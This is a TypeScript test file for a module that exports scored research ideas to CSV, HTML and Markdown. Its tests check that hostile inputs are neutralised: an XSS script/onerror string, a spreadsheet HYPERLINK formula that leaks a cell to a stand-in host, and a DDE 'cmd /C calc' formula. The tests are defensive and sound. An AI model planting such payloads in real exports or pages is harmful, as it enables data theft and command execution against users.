// @vitest-environment jsdom
// jsdom for DOMParser: the HTML export is proven safe by parsing it as a browser would.
import Papa from 'papaparse';
import {
  buildIdeaExport,
  IDEA_CSV_COLUMNS,
  ideasToCsv,
  ideasToHtml,
  ideasToMarkdown,
  type ExportIdea,
} from './idea-export';
import { escapeMarkdown } from './text-escape';

const idea = (overrides: Partial<ExportIdea> = {}): ExportIdea => ({
  id: '00000000-0000-4000-8000-000000000001',
  title: 'Soil microbes and drought',
  summary: 'Line one\nLine two',
  status: 'reviewed',
  eloRating: 2000,
  noveltyScore: 0.5,
  correctnessScore: 0.8,
  feasibilityScore: 0.2,
  createdAt: '2026-11-20T12:00:00.000Z',
  reviews: [{ type: 'initial', score: 4, text: 'Good' }],
  parentIds: ['p1', 'p2'],
  ...overrides,
});

const NOW = new Date(2026, 10, 22, 9, 30);
const hostile = '<script>window.pwned = true</script><img src=x onerror="alert(1)">';

describe('ideasToCsv', () => {
  it('writes one row per idea with the figures the list shows', () => {
    const parsed = Papa.parse<Record<string, string>>(ideasToCsv([idea()]), { header: true, skipEmptyLines: true });
    expect(parsed.meta.fields).toEqual(IDEA_CSV_COLUMNS);
    expect(parsed.data[0]).toMatchObject({
      rank: '1',
      title: 'Soil microbes and drought',
      eloRating: '2000',
      status: 'Reviewed',
      stars: '3',
      overallScore: '2.7',
      noveltyScore: '2.5',
      correctnessScore: '4',
      feasibilityScore: '1',
      feasibility: 'Low',
      reviews: '1',
      parentIds: 'p1 p2',
      summary: 'Line one\nLine two',
    });
  });

  it('uses the ranks given and defuses spreadsheet formulas', () => {
    const csv = ideasToCsv([idea({ title: '=HYPERLINK("x")' })], new Map([[idea().id, 7]]));
    const [row] = Papa.parse<Record<string, string>>(csv, { header: true, skipEmptyLines: true }).data;
    expect(row.rank).toBe('7');
    expect(row.title).toBe(`'=HYPERLINK("x")`);
  });

  it('defuses a formula followed by more lines in any text cell', () => {
    const title = '=HYPERLINK("https://tracker.invalid/?d="&A1,"Open")\nSoil';
    const summary = "-2+3+cmd|' /C calc'!A0\nLine two";
    const [row] = Papa.parse<Record<string, string>>(ideasToCsv([idea({ title, summary, status: '@x\ny' })]), {
      header: true,
      skipEmptyLines: true,
    }).data;
    expect(row).toMatchObject({ title: `'${title}`, summary: `'${summary}`, status: `'@x\ny` });
  });

  it('writes the scores as numbers, so a negative one stays a number', () => {
    const csv = ideasToCsv([idea({ noveltyScore: -0.25, correctnessScore: 0.5 })]);
    const [row] = Papa.parse<Record<string, string>>(csv, { header: true, skipEmptyLines: true }).data;
    expect(row).toMatchObject({ noveltyScore: '-1.3', correctnessScore: '2.5', feasibilityScore: '1' });
    expect(csv).not.toContain("'-");
  });
});

describe('ideasToHtml', () => {
  it('escapes every value: a hostile title or summary never becomes an element', () => {
    const html = ideasToHtml([idea({ title: hostile, summary: hostile })], `Session ${hostile}`, NOW);
    const doc = new DOMParser().parseFromString(html, 'text/html');
    expect(doc.querySelectorAll('script')).toHaveLength(0);
    expect(doc.querySelectorAll('img')).toHaveLength(0);
    expect(doc.querySelectorAll('[onerror]')).toHaveLength(0);
    expect(doc.querySelector('tbody td:nth-child(2)')?.textContent).toBe(hostile);
    expect(doc.title).toBe(`Session ${hostile}`);
  });

  it('has a header row and one row per idea', () => {
    const doc = new DOMParser().parseFromString(
      ideasToHtml([idea(), idea({ id: 'b', title: 'Second' })], 'Ideas', NOW),
      'text/html',
    );
    expect([...doc.querySelectorAll('thead th')].map((th) => th.textContent)).toContain('Feasibility label');
    expect(doc.querySelectorAll('tbody tr')).toHaveLength(2);
  });
});

describe('ideasToMarkdown', () => {
  it('gives each idea a heading with its figures and summary', () => {
    const md = ideasToMarkdown([idea()], 'Ideas', NOW);
    expect(md).toContain('## 1. Soil microbes and drought');
    expect(md).toContain('- Elo: 2000 (3 of 5 stars)');
    expect(md).toContain('Line one\nLine two');
  });

  it('writes the status in words and the scores out of 5, as the screens do', () => {
    const md = ideasToMarkdown([idea({ status: 'selected' })], 'Ideas', NOW);
    expect(md).toContain('- Status: Selected');
    expect(md).toContain('- Overall 2.7 / 5 (Novelty 2.5 / 5, Correctness 4.0 / 5, Feasibility 1.0 / 5)');
    expect(md).toContain('- Feasibility: Low');
  });

  it('counts the reviews a list item carries without its reviews', () => {
    const listed = idea({ reviews: undefined, reviewCount: 6 });
    expect(ideasToMarkdown([listed], 'Ideas', NOW)).toContain('- Reviews: 6');
    const [row] = Papa.parse<Record<string, string>>(ideasToCsv([listed]), { header: true, skipEmptyLines: true }).data;
    expect(row.reviews).toBe('6');
  });

  it('names who added each idea and who rated it, nobody for an unrated one', () => {
    const csv = ideasToCsv([
      idea({ userRating: 4, createdBy: { name: 'Ana Lopez' }, ratedBy: { name: 'Ben Okafor' } }),
      idea({ id: 'b', userRating: null, createdBy: { name: '=Eve' }, ratedBy: null }),
    ]);
    const rows = Papa.parse<Record<string, string>>(csv, { header: true, skipEmptyLines: true }).data;
    expect(rows.map((row) => [row.createdBy, row.ratedBy])).toEqual([
      ['Ana Lopez', 'Ben Okafor'],
      ["'=Eve", ''],
    ]);
  });

  it('writes your rating apart from the tournament’s stars, or says it is not rated', () => {
    const rated = ideasToMarkdown([idea({ userRating: 4 })], 'Ideas', NOW);
    expect(rated).toContain('- Elo: 2000 (3 of 5 stars)');
    expect(rated).toContain('- Your rating: 4 of 5 stars');
    expect(ideasToMarkdown([idea({ userRating: null })], 'Ideas', NOW)).toContain('- Your rating: not rated');
    const csv = ideasToCsv([idea({ userRating: 4 }), idea({ id: 'b', userRating: null })]);
    const rows = Papa.parse<Record<string, string>>(csv, { header: true, skipEmptyLines: true }).data;
    expect(rows.map((row) => [row.stars, row.yourRating])).toEqual([
      ['3', '4'],
      ['3', ''],
    ]);
    const doc = new DOMParser().parseFromString(ideasToHtml([idea({ userRating: 2 })], 'Ideas', NOW), 'text/html');
    const headers = [...doc.querySelectorAll('thead th')].map((th) => th.textContent);
    expect(doc.querySelectorAll('tbody td')[headers.indexOf('Your rating')]?.textContent).toBe('2');
  });

  it('counts the reviews the idea carries, and claims no count for an idea with neither reviews nor a count', () => {
    const reviews = Array.from({ length: 8 }, (_, i) => ({ type: 'full', score: 4, text: `Review ${i}` }));
    expect(ideasToMarkdown([idea({ reviews })], 'Ideas', NOW)).toContain('- Reviews: 8');
    const listed = ideasToMarkdown([idea({ reviews: undefined })], 'Ideas', NOW);
    expect(listed).not.toContain('Reviews:');
    const [row] = Papa.parse<Record<string, string>>(ideasToCsv([idea({ reviews: undefined })]), {
      header: true,
      skipEmptyLines: true,
    }).data;
    expect(row.reviews).toBe('');
  });

  it('escapes markup so a title stays text', () => {
    const md = ideasToMarkdown([idea({ title: hostile })], 'Ideas', NOW);
    expect(md).not.toContain('<script>');
    expect(md).toContain('\\<script\\>');
    expect(escapeMarkdown('# not a heading\nor [a](link)')).toBe('\\# not a heading or \\[a\\](link)');
  });
});

describe('buildIdeaExport', () => {
  it.each([
    ['csv', 'ideas-2026-11-22.csv', 'text/csv;charset=utf-8'],
    ['md', 'ideas-2026-11-22.md', 'text/markdown;charset=utf-8'],
    ['html', 'ideas-2026-11-22.html', 'text/html;charset=utf-8'],
  ] as const)('%s is named with the date', (format, fileName, mimeType) => {
    const file = buildIdeaExport(format, [idea()], { now: NOW });
    expect(file).toMatchObject({ fileName, mimeType });
    expect(file.content).toContain('Soil microbes and drought');
  });
});
